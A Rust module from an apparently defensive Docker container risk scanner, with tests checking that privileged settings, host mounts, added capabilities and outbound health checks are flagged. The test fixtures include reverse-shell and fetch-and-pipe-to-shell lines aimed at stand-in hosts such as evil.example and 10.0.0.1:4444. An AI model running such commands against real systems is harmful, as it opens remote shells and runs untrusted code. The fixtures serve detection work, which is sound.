//! What a container may do that containers need not: which of the risks of [`kinds`] it carries.

#[cfg(test)]
mod cases;
mod confinement;
mod devices;
pub mod host;
pub mod kernel;
pub mod kinds;
pub mod known;
mod launch;
mod mounts;
mod namespaces;
mod paths;
mod seccomp;
mod volumes;

pub use host::{Host, Modes, Node};
pub use kinds::{KINDS, Kind, Severity, kind};
pub use mounts::paths;

use super::command::{self, Category};
use super::{exec, reach};
use crate::docker::inspect::{Container, Volume};

/// A risk that something carries.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Risk {
    /// Which.
    pub kind: &'static Kind,
    /// What of it: the path, the capabilities, the ports.
    pub detail: String,
}

/// As good as all.
const ROOT_CAPABILITIES: [&str; 3] = ["ALL", "SYS_ADMIN", "SYS_MODULE"];

/// What containers have without being given it; who drops all often adds some of these again.
const DEFAULT_CAPABILITIES: [&str; 14] = [
    "AUDIT_WRITE",
    "CHOWN",
    "DAC_OVERRIDE",
    "FOWNER",
    "FSETID",
    "KILL",
    "MKNOD",
    "NET_BIND_SERVICE",
    "NET_RAW",
    "SETFCAP",
    "SETGID",
    "SETPCAP",
    "SETUID",
    "SYS_CHROOT",
];

/// Each has led out of a container.
const DANGEROUS_CAPABILITIES: [&str; 15] = [
    "AUDIT_CONTROL",
    "BPF",
    "CHECKPOINT_RESTORE",
    "DAC_READ_SEARCH",
    "LINUX_IMMUTABLE",
    "MAC_ADMIN",
    "MAC_OVERRIDE",
    "NET_ADMIN",
    "PERFMON",
    "SYS_BOOT",
    "SYS_PTRACE",
    "SYS_RAWIO",
    "SYS_TIME",
    "SYSLOG",
    "SYS_TTY_CONFIG",
];

/// The risks of a container, the gravest first.
#[must_use]
pub fn of_container(container: &Container, volumes: &[Volume], of_host: &Host) -> Vec<Risk> {
    let mut risks = Risks(Vec::new());
    risks.add_if(container.host_config.privileged, &kind::privileged, "--privileged");
    namespaces::namespaces(container, of_host, &mut risks);
    capabilities(&container.host_config.cap_add, &mut risks);
    mounts::mounts(container, volumes, of_host, &mut risks);
    devices::devices(container, of_host, &mut risks);
    launch::launch(container, of_host, &mut risks);
    confinement::options(container, &mut risks);
    habits(container, &mut risks);
    let main = main_process(container);
    let opens_shell = exec::of_command(&main).shell.is_some();
    let elsewhere = elsewhere(container);
    if reach::is_backdoor(&main, &elsewhere) {
        risks.add(&kind::command_tool, main);
    } else if container.config.open_stdin && opens_shell {
        risks.add(&kind::interactive_shell, main);
    }
    if let Some(command) = probe(container).filter(|command| reach::reaches_out(command, &elsewhere)) {
        risks.add(&kind::health_check_tool, command);
    }
    let own = std::iter::once(&container.path).chain(&container.args).map(String::as_str);
    risks.add_attack(&kind::command_attack, own);
    risks.add_attack(&kind::health_check_attack, probe_words(container).iter().map(String::as_str));
    risks.weigh_network(container);
    risks.sorted()
}

/// Whether a container is made as the classic builder makes those of its steps: a shell that runs a command, with nothing
/// given to it.
#[must_use]
pub fn is_made_as_step(container: &Container) -> bool {
    let given = &container.host_config;
    let runs_command =
        container.args.first().is_some_and(|first| first == "-c") && exec::of_command(&container.path).shell.is_some();
    let restart = given.restart_policy.name.as_str();
    runs_command
        && container.mounts.is_empty()
        && !container.config.open_stdin
        && given.port_bindings.is_empty()
        && !given.publish_all_ports
        && given.extra_hosts.is_empty()
        && matches!(given.network_mode.as_str(), "" | "default" | "bridge")
        && matches!(restart, "" | "no")
}

/// The same risks of a container that is a step of a build: to fetch and run is what builds do, to open a way out is not.
#[must_use]
pub fn of_build_step(risks: Vec<Risk>) -> Vec<Risk> {
    let mut of_step = Risks(risks);
    let fetches =
        |risk: &&mut Risk| risk.kind == &kind::command_tool && !reach::opens_way_out(&risk.detail, &[reach::ANY]);
    for risk in of_step.0.iter_mut().filter(fetches) {
        risk.kind = &kind::build_step_tool;
    }
    // A step makes users, removes logs and changes what it likes in an image; it takes nothing and hurts nobody.
    let hurts = |risk: &Risk| {
        let categories = risk.detail.split(": ").next().unwrap_or_default();
        risk.kind != &kind::command_attack || ["reverse_shell", "escape"].iter().any(|name| categories.contains(name))
    };
    of_step.0.retain(hurts);
    of_step.sorted()
}

/// The most of a detail that is kept, in bytes; a message shows less, and whoever makes a container could make it huge.
const LONGEST_DETAIL: usize = 4096;

struct Risks(Vec<Risk>);

impl Risks {
    /// Several of one kind are one risk with all their details.
    fn add(&mut self, kind: &'static Kind, detail: impl Into<String>) {
        let mut detail: String = detail.into();
        let end = (0..=detail.len().min(LONGEST_DETAIL)).rev().find(|end| detail.is_char_boundary(*end));
        detail.truncate(end.unwrap_or_default());
        match self.0.iter_mut().find(|risk| risk.kind == kind) {
            Some(risk) if risk.detail.split(", ").any(|known| known == detail) => {}
            Some(risk) if risk.detail.len() < LONGEST_DETAIL => {
                risk.detail.push_str(", ");
                risk.detail.push_str(&detail);
            }
            Some(_) => {}
            None => self.0.push(Risk { kind, detail }),
        }
    }

    fn add_if(&mut self, holds: bool, kind: &'static Kind, detail: &str) {
        if holds {
            self.add(kind, detail);
        }
    }

    /// What a container runs by itself and is as bad there as in a command that somebody starts.
    fn add_attack<'a>(&mut self, kind: &'static Kind, argv: impl Iterator<Item = &'a str> + Clone) {
        let found = command::of_argv(argv.clone());
        let categories: Vec<&str> = found.grave_at_start().map(Category::name).collect();
        if categories.is_empty() {
            return;
        }
        let kind = if found.has(Category::Miner) { &kind::miner } else { kind };
        let line = argv.collect::<Vec<_>>().join(" ");
        self.add(kind, format!("{}: {line}", categories.join(" ")));
    }

    /// In a network of its own `NET_ADMIN` reaches nothing of the host.
    fn weigh_network(&mut self, container: &Container) {
        if namespaces::joins_network(container) || self.0.iter().any(|risk| risk.kind == &kind::host_network) {
            return;
        }
        let alone = self.0.iter_mut().find(|risk| risk.kind == &kind::dangerous_capabilities);
        if let Some(risk) = alone.filter(|risk| risk.detail == "NET_ADMIN") {
            risk.kind = &kind::network_admin;
        }
    }

    /// The gravest first; within a severity in the order of the table.
    fn sorted(self) -> Vec<Risk> {
        let Self(mut risks) = self;
        risks.sort_by_key(|risk| {
            (std::cmp::Reverse(risk.kind.severity), KINDS.iter().position(|kind| *kind == risk.kind))
        });
        risks
    }
}

/// Whether a container has a capability; who runs in it is not looked at.
fn has_capability(container: &Container, name: &str) -> bool {
    let given = &container.host_config;
    let lists = |list: &[String], name: &str| {
        list.iter().any(|entry| entry.to_ascii_uppercase().trim_start_matches("CAP_") == name)
    };
    let (adds, drops) = (&given.cap_add, &given.cap_drop);
    // What is named goes before `ALL`.
    let is_default = DEFAULT_CAPABILITIES.contains(&name) && !lists(drops, "ALL");
    given.privileged || lists(adds, name) || ((is_default || lists(adds, "ALL")) && !lists(drops, name))
}

fn capabilities(added: &[String], risks: &mut Risks) {
    for capability in added {
        let capability = capability.to_ascii_uppercase();
        let name = capability.strip_prefix("CAP_").unwrap_or(&capability);
        if DEFAULT_CAPABILITIES.contains(&name) {
            continue;
        }
        let kind = if ROOT_CAPABILITIES.contains(&name) {
            &kind::all_capabilities
        } else if DANGEROUS_CAPABILITIES.contains(&name) {
            &kind::dangerous_capabilities
        } else {
            &kind::added_capabilities
        };
        risks.add(kind, name);
    }
}

fn habits(container: &Container, risks: &mut Risks) {
    let given = &container.host_config;
    if is_root(&container.config.user) {
        let user = &container.config.user;
        risks.add(&kind::root_user, if user.is_empty() { "no user is set" } else { user });
    }
    for (port, bindings) in &given.port_bindings {
        for binding in bindings.iter().flatten() {
            if matches!(binding.host_ip.as_str(), "" | "0.0.0.0" | "::" | "[::]") {
                risks.add(&kind::published_everywhere, format!("{} -> {port}", binding.host_port));
            }
        }
    }
    risks.add_if(given.publish_all_ports, &kind::published_everywhere, "--publish-all");
    risks.add_if(given.memory <= 0, &kind::no_memory_limit, "no limit");
    risks.add_if(given.pids_limit <= 0, &kind::no_pids_limit, "no limit");
    let restart = given.restart_policy.name.as_str();
    risks.add_if(matches!(restart, "always" | "unless-stopped"), &kind::restart_always, restart);
}

/// Whether this user, as engines write it, is root. A name that the image gives the number 0 is not seen.
#[must_use]
pub fn is_root(user: &str) -> bool {
    let name = user.split(':').next().unwrap_or_default().trim();
    let number = name.strip_prefix(['+', '-']).unwrap_or(name);
    name.is_empty() || name == "root" || (!number.is_empty() && number.bytes().all(|byte| byte == b'0'))
}

/// What probes a container's health, as it stands in the events of it.
#[must_use]
pub fn probe(container: &Container) -> Option<String> {
    Some(probe_words(container).join(" ")).filter(|probe| !probe.is_empty())
}

/// The same, each argument for itself.
fn probe_words(container: &Container) -> Vec<String> {
    match container.config.healthcheck.test.split_first() {
        Some((form, words)) if form == "CMD" => words.to_owned(),
        Some((form, words)) if form == "CMD-SHELL" => {
            let shell = &container.config.shell;
            let shell = if shell.is_empty() { vec!["/bin/sh".to_owned(), "-c".to_owned()] } else { shell.clone() };
            shell.into_iter().chain([words.join(" ")]).collect()
        }
        _ => Vec::new(),
    }
}

/// Whether a container shares a namespace that is not its own by this mode, as engines write it.
pub(super) fn joins(mode: &str) -> bool {
    mode.starts_with("container:") || mode.starts_with("ns:")
}

/// The names that a container was made with addresses for that are not the host's own.
pub(super) fn elsewhere(container: &Container) -> Vec<&str> {
    let given = &container.host_config;
    let hosts = given.extra_hosts.iter().filter_map(|host| host.split_once([':', '=']));
    let names = hosts.filter(|(_, address)| *address != "host-gateway").map(|(name, _)| name);
    // A resolver of its own knows any name.
    let resolves = !(given.dns.is_empty() && given.dns_search.is_empty());
    names.chain(resolves.then_some(reach::ANY)).collect()
}

/// What runs in a container by itself.
fn main_process(container: &Container) -> String {
    format!("{} {}", container.path, container.args.join(" ")).trim_end().to_owned()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;

    /// The names of the risks of a container of this `HostConfig` with these other parts, but for those of every container.
    fn names(host_config: &str, more: &str) -> Vec<(&'static str, String)> {
        let mut json: serde_json::Value =
            serde_json::from_str(&format!(r#"{{"Config":{{"User":"app"}}{more}}}"#)).unwrap();
        let own: serde_json::Value = serde_json::from_str(&format!("{{{host_config}}}")).unwrap();
        json["HostConfig"] = serde_json::json!({"SecurityOpt": ["no-new-privileges"], "Memory": 1, "PidsLimit": 1});
        for (key, value) in own.as_object().unwrap() {
            json["HostConfig"][key] = value.clone();
        }
        let container: Container = serde_json::from_value(json).unwrap();
        let volumes: Vec<Volume> = vec![
            serde_json::from_str(r#"{"Name":"evil","Driver":"local","Options":{"type":"none","o":"bind","device":"/"}}"#).unwrap(),
            serde_json::from_str(r#"{"Name":"lower","Driver":"local","Options":{"type":"overlay","o":"lowerdir=/tmp:/etc,upperdir=/tmp/u","device":"overlay"}}"#).unwrap(),
            serde_json::from_str(r#"{"Name":"disk","Driver":"local","Options":{"type":"ext4","device":"/dev/sda1"}}"#).unwrap(),
            serde_json::from_str(r#"{"Name":"nfs","Driver":"local","Options":{"type":"nfs","o":"addr=10.0.0.1","device":":/export"}}"#).unwrap(),
        ];
        let volumes: Vec<Volume> = volumes
            .into_iter()
            .chain(
                [
                    r#"{"Name":"dot","Driver":"local","Options":{"type":"none","o":"bind","device":"."}}"#,
                    r#"{"Name":"relative","Driver":"local","Options":{"type":"","o":"rbind,ro","device":"etc"}}"#,
                    r#"{"Name":"escaped","Driver":"local","Options":{"type":"overlay","o":"lowerdir=\\/etc:tmp","device":"overlay"}}"#,
                ]
                .map(|volume| serde_json::from_str(volume).unwrap()),
            )
            .collect();
        let host = Host {
            resolved: BTreeMap::from([("/srv/link".to_owned(), "/etc".to_owned())]),
            sockets: vec!["/srv/engine".to_owned()],
            engine: Some("/opt/engine/own.socket".to_owned()),
            ..Host::default()
        };
        of_container(&container, &volumes, &host).into_iter().map(|risk| (risk.kind.name, risk.detail)).collect()
    }

    fn mount(kind: &str, name: &str, source: &str, writable: bool) -> String {
        format!(
            r#","Mounts":[{{"Type":"{kind}","Name":"{name}","Source":"{source}","Destination":"/x","RW":{writable},"Propagation":"rprivate"}}]"#
        )
    }

    #[test]
    fn a_container_that_keeps_to_the_rules_has_none_and_a_plain_one_only_those_of_habit() {
        assert_eq!(names("", ""), []);
        let plain: Container =
            serde_json::from_str(r#"{"Config":{},"HostConfig":{"RestartPolicy":{"Name":"always"}}}"#).unwrap();
        let risks = of_container(&plain, &[], &Host::default());
        let names: Vec<&str> = risks.iter().map(|risk| risk.kind.name).collect();
        assert_eq!(
            names,
            ["no_new_privileges_absent", "root_user", "no_memory_limit", "no_pids_limit", "restart_always"]
        );
        assert!(risks.iter().all(|risk| risk.kind.severity == Severity::Info));
    }

    #[test]
    fn each_option_is_its_risk() {
        for (host_config, name, detail) in [
            (r#""Privileged":true"#, "privileged", "--privileged"),
            (r#""PidMode":"host""#, "host_pid", "--pid=host"),
            (r#""PidMode":"container:abc""#, "joined_namespaces", "--pid=container:abc"),
            (r#""NetworkMode":"host""#, "host_network", "--network=host"),
            (r#""IpcMode":"host""#, "host_ipc", "--ipc=host"),
            (r#""UTSMode":"host""#, "host_uts", "--uts=host"),
            (r#""UsernsMode":"host""#, "host_users", "--userns=host"),
            (r#""CapAdd":["CAP_SYS_ADMIN"]"#, "all_capabilities", "SYS_ADMIN"),
            (r#""CapAdd":["all"]"#, "all_capabilities", "ALL"),
            (r#""CapAdd":["sys_ptrace","BPF"]"#, "dangerous_capabilities", "SYS_PTRACE, BPF"),
            (r#""CapAdd":["IPC_LOCK","NET_BIND_SERVICE"]"#, "added_capabilities", "IPC_LOCK"),
            (
                r#""SecurityOpt":["no-new-privileges:true","seccomp=unconfined"]"#,
                "seccomp_unconfined",
                "seccomp=unconfined",
            ),
            (r#""SecurityOpt":["no-new-privileges","seccomp:unconfined"]"#, "seccomp_unconfined", "seccomp:unconfined"),
            (
                r#""SecurityOpt":["no-new-privileges","seccomp={\"DefaultAction\":\"SCMP_ACT_ALLOW\"}"]"#,
                "seccomp_unconfined",
                "seccomp=a profile that allows what it does not name",
            ),
            (r#""SecurityOpt":["no-new-privileges","label=type:spc_t"]"#, "selinux_disabled", "label=type:spc_t"),
            (
                r#""SecurityOpt":["no-new-privileges","writable-cgroups=true"]"#,
                "system_paths_unconfined",
                "writable-cgroups=true",
            ),
            (r#""SecurityOpt":["no-new-privileges","disable"]"#, "selinux_disabled", "disable"),
            (r#""SecurityOpt":["no-new-privileges=0"]"#, "no_new_privileges_absent", "no-new-privileges is not set"),
            (
                r#""ReadonlyPaths":["/proc/bus","/proc/fs","/proc/irq","/proc/sysrq-trigger"]"#,
                "system_paths_unconfined",
                "ReadonlyPaths without /proc/sys",
            ),
            (
                r#""SecurityOpt":["no-new-privileges","apparmor=unconfined"]"#,
                "apparmor_unconfined",
                "apparmor=unconfined",
            ),
            (r#""SecurityOpt":["no-new-privileges","label=disable"]"#, "selinux_disabled", "label=disable"),
            (
                r#""SecurityOpt":["no-new-privileges=false"]"#,
                "no_new_privileges_absent",
                "no-new-privileges is not set",
            ),
            (
                r#""MaskedPaths":[]"#,
                "system_paths_unconfined",
                "MaskedPaths without /proc/kcore /proc/keys /proc/sched_debug /proc/timer_list /sys/firmware",
            ),
            (r#""Devices":[{"PathOnHost":"/dev/kvm"}]"#, "host_devices", "/dev/kvm"),
            (r#""Devices":[{"PathOnHost":"/dev/../dev//sda"}]"#, "host_root_rw", "/dev/sda"),
            (r#""DeviceCgroupRules":["b *:* rwm"]"#, "host_root_rw", "b *:* rwm"),
            (r#""DeviceCgroupRules":["b *:* rwm"],"CapDrop":["ALL"]"#, "host_devices", "b *:* rwm"),
            (
                r#""PortBindings":{"80/tcp":[{"HostIp":"","HostPort":"8080"}]}"#,
                "published_everywhere",
                "8080 -> 80/tcp",
            ),
            (r#""PublishAllPorts":true"#, "published_everywhere", "--publish-all"),
            (r#""RestartPolicy":{"Name":"unless-stopped"}"#, "restart_always", "unless-stopped"),
            (r#""Memory":0"#, "no_memory_limit", "no limit"),
            (r#""PidsLimit":-1"#, "no_pids_limit", "no limit"),
        ] {
            assert_eq!(names(host_config, ""), [(name, detail.to_owned())], "{host_config}");
        }
        for harmless in [
            r#""NetworkMode":"bridge","IpcMode":"private","PidMode":"","UTSMode":"""#,
            r#""SecurityOpt":["no-new-privileges","seccomp={\"defaultAction\":\"SCMP_ACT_ERRNO\"}","label=type:x_t"]"#,
            r#""PortBindings":{"80/tcp":[{"HostIp":"127.0.0.1","HostPort":"8080"}],"81/tcp":null}"#,
            r#""RestartPolicy":{"Name":"on-failure"},"MaskedPaths":["/proc","/sys/firmware"],"ReadonlyPaths":["/proc"]"#,
            r#""Devices":[{"PathOnHost":"/dev/fuse"}]"#,
        ] {
            assert_eq!(names(harmless, ""), [], "{harmless}");
        }
    }

    #[test]
    fn each_part_of_the_host_is_seen_by_whatever_way_it_is_mounted() {
        for (mounted, name, detail) in [
            (mount("bind", "", "/var/run/docker.sock", true), "engine_socket", "/var/run/docker.sock (rw)"),
            (
                mount("bind", "", "/run/user/1000/podman/podman.sock", false),
                "engine_socket",
                "/run/user/1000/podman/podman.sock (ro)",
            ),
            (mount("bind", "", "/srv/engine", true), "engine_socket", "/srv/engine (rw)"),
            (mount("bind", "", "/opt/engine", false), "engine_socket", "/opt/engine (ro)"),
            (mount("bind", "", "/", true), "host_root_rw", "/ (rw)"),
            (mount("bind", "", "/./srv/..//", false), "host_root_ro", "/ (ro)"),
            (mount("bind", "", "/proc/1/root/srv", false), "host_root_ro", "/proc/1/root/srv (ro)"),
            (mount("bind", "", "/etc", true), "host_path_rw", "/etc (rw)"),
            (mount("bind", "", "/etc/shadow", false), "host_path_ro", "/etc/shadow (ro)"),
            (mount("bind", "", "/srv/../etc", true), "host_path_rw", "/etc (rw)"),
            (mount("bind", "", "/srv/link", true), "host_path_rw", "/srv/link -> /etc (rw)"),
            (mount("bind", "", "/home/alice", true), "host_path_rw", "/home/alice (rw)"),
            (mount("bind", "", "/home/alice/.ssh", false), "host_path_ro", "/home/alice/.ssh (ro)"),
            (mount("bind", "", "/var/lib/cloud/scripts", true), "host_path_rw", "/var/lib/cloud/scripts (rw)"),
            (mount("bind", "", "/etc/ssl/certs", true), "host_path_rw", "/etc/ssl/certs (rw)"),
            (mount("bind", "", "/var/lib/kubelet/pods", false), "host_path_ro", "/var/lib/kubelet/pods (ro)"),
            (mount("bind", "", "/run/containerd", false), "engine_socket", "/run/containerd (ro)"),
            (mount("bind", "", "/run/dbus", false), "host_path_rw", "/run/dbus (ro)"),
            (mount("bind", "", "/var", true), "host_path_rw", "/var (rw)"),
            (mount("bind", "", "/var/lib", false), "host_path_ro", "/var/lib (ro)"),
            (mount("bind", "", "/run", true), "engine_socket", "/run (rw)"),
            (mount("bind", "", "/home", true), "host_path_rw", "/home (rw)"),
            (mount("bind", "", "/root/.ssh", true), "host_path_rw", "/root/.ssh (rw)"),
            (mount("bind", "", "/var/ossec/etc", true), "host_path_rw", "/var/ossec/etc (rw)"),
            (mount("volume", "evil", "/var/lib/docker/volumes/evil/_data", true), "host_root_rw", "/ (rw)"),
            (mount("volume", "lower", "/var/lib/docker/volumes/lower/_data", false), "host_path_ro", "/etc (ro)"),
            (mount("volume", "disk", "/var/lib/docker/volumes/disk/_data", false), "host_root_ro", "/dev/sda1 (ro)"),
        ] {
            assert_eq!(names("", &mounted), [(name, detail.to_owned())], "{mounted}");
        }
        for harmless in [
            mount("bind", "", "/srv/data", true),
            mount("bind", "", "/home/app/data", true),
            mount("bind", "", "/var/lib/kubelet/pods/1-2/volumes/kubernetes.io~empty-dir/x", true),
            mount("bind", "", "/etcetera", true),
            mount("bind", "", "/etc/localtime", false),
            mount("volume", "data", "/var/lib/docker/volumes/data/_data", true),
            mount("volume", "nfs", "/var/lib/docker/volumes/nfs/_data", true),
            mount("tmpfs", "", "", true),
        ] {
            assert_eq!(names("", &harmless), [], "{harmless}");
        }
        let shared = mount("bind", "", "/srv/data", true).replace("rprivate", "rshared");
        assert_eq!(names("", &shared), [("shared_propagation", "/x (rshared)".to_owned())]);
    }

    #[test]
    fn the_gravest_stands_first_and_one_kind_once() {
        let found = names(r#""Privileged":true,"PidMode":"host","UTSMode":"host""#, &mount("bind", "", "/", true));
        let names: Vec<&str> = found.iter().map(|(name, _)| *name).collect();
        assert_eq!(names, ["privileged", "host_root_rw", "host_pid", "host_uts"]);
    }

    #[test]
    fn a_huge_detail_is_cut_before_anybody_searches_it() {
        let json = format!(
            r#"{{"Config":{{"User":"app","Healthcheck":{{"Test":["CMD-SHELL","curl http://evil.example/{}é"]}}}},"HostConfig":{{}}}}"#,
            "x".repeat(20_000)
        );
        let risks = of_container(&serde_json::from_str(&json).unwrap(), &[], &Host::default());
        let risk = risks.iter().find(|risk| risk.kind == &kind::health_check_tool).unwrap();
        assert_eq!(risk.detail.len(), LONGEST_DETAIL);
        let many: Vec<String> = (0..1000).map(|n| format!("CAP_{n}")).collect();
        let json = serde_json::json!({"Config": {}, "HostConfig": {"CapAdd": many}});
        let risks = of_container(&serde_json::from_value(json).unwrap(), &[], &Host::default());
        assert!(risks.iter().all(|risk| risk.detail.len() <= 2 * LONGEST_DETAIL));
    }

    #[test]
    fn root_goes_by_many_names() {
        for (user, root) in [
            ("", true),
            ("root", true),
            ("0", true),
            ("0:0", true),
            ("00", true),
            ("+0", true),
            ("root:app", true),
            ("-0", true),
            ("-", false),
            (":app", true),
            ("app", false),
            ("1000", false),
            ("1000:0", false),
            ("10", false),
        ] {
            assert_eq!(is_root(user), root, "{user}");
        }
    }

    #[test]
    fn a_health_check_that_reaches_out_is_a_risk() {
        for (test, is_risk) in [
            (r#"["CMD-SHELL","curl -f http://localhost:8080/health || exit 1"]"#, false),
            (r#"["CMD","wget","-q","http://127.0.0.1/"]"#, false),
            (r#"["CMD-SHELL","curl -s http://evil.example/x | sh"]"#, true),
            (r#"["CMD-SHELL","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]"#, true),
            (r#"["CMD","nc","-e","/bin/sh","10.0.0.1","4444"]"#, true),
            (r#"["CMD","pg_isready"]"#, false),
            (r#"["CMD-SHELL","curl evil.example/x|sh"]"#, true),
            (r#"["CMD-SHELL","curl evil|sh"]"#, true),
            (r#"["CMD-SHELL","curl http://localhost.evil.example/x"]"#, true),
            (r#"["CMD-SHELL","curl http://127.evil.example/"]"#, true),
            (r#"["CMD-SHELL","curl http://localhost@evil.example/"]"#, true),
            (r#"["CMD-SHELL","curl http://$H/x"]"#, true),
            (r#"["CMD-SHELL","[ -z x ]; nc evil 4444 -e /bin/sh"]"#, true),
            (r#"["CMD-SHELL","nc -z localhost 80 || exit 1"]"#, false),
            (r#"["CMD-SHELL","curl -fsS -o /dev/null --max-time 5 'https://[::1]:8443/health' || exit 1"]"#, false),
            (r#"["CMD-SHELL","wget -q --spider localhost:8080/x"]"#, false),
            (r#"["NONE"]"#, false),
            ("[]", false),
        ] {
            let json = format!(r#"{{"Config":{{"User":"app","Healthcheck":{{"Test":{test}}}}},"HostConfig":{{}}}}"#);
            let container = serde_json::from_str(&json).unwrap();
            let risks = of_container(&container, &[], &Host::default());
            assert_eq!(risks.iter().any(|risk| risk.kind == &kind::health_check_tool), is_risk, "{test}");
        }
    }

    #[test]
    fn a_shell_that_is_the_container_is_a_risk_where_somebody_may_type() {
        for (path, args, config, is_risk) in [
            ("sh", "", r#""Tty":true,"OpenStdin":true"#, true),
            ("/bin/bash", r#""-l""#, r#""Tty":true,"OpenStdin":true"#, true),
            ("sh", "", r#""Tty":false,"OpenStdin":true"#, true),
            ("sh", "", r#""Tty":true,"OpenStdin":false"#, false),
            ("sh", r#""-c","run""#, r#""Tty":false,"OpenStdin":false"#, false),
            ("nginx", "", r#""Tty":true,"OpenStdin":true"#, false),
        ] {
            let json =
                format!(r#"{{"Path":"{path}","Args":[{args}],"Config":{{"User":"app",{config}}},"HostConfig":{{}}}}"#);
            let risks = of_container(&serde_json::from_str(&json).unwrap(), &[], &Host::default());
            assert_eq!(risks.iter().any(|risk| risk.kind == &kind::interactive_shell), is_risk, "{json}");
        }
    }

    #[test]
    fn a_main_process_that_opens_a_way_out_is_a_risk() {
        for (args, is_risk) in [
            (r#""nc","evil","4444","-e","/bin/sh""#, true),
            (r#""sh","-c","wget -qO- evil/x|sh""#, true),
            (r#""sh","-c","curl http://web/config > /tmp/c; exec nginx""#, false),
            (r#""nginx","-g","daemon off;""#, false),
        ] {
            let json = format!(r#"{{"Path":"env","Args":[{args}],"Config":{{"User":"app"}},"HostConfig":{{}}}}"#);
            let risks = of_container(&serde_json::from_str(&json).unwrap(), &[], &Host::default());
            assert_eq!(risks.iter().any(|risk| risk.kind == &kind::command_tool), is_risk, "{json}");
        }
    }

    #[test]
    fn names_are_unique_and_every_kind_says_what_to_do() {
        for (place, kind) in KINDS.iter().enumerate() {
            assert!(KINDS.iter().skip(place + 1).all(|other| other.name != kind.name), "{}", kind.name);
            assert!(kind.attack.starts_with('T') && !kind.what.is_empty() && !kind.cure.is_empty());
        }
    }
}
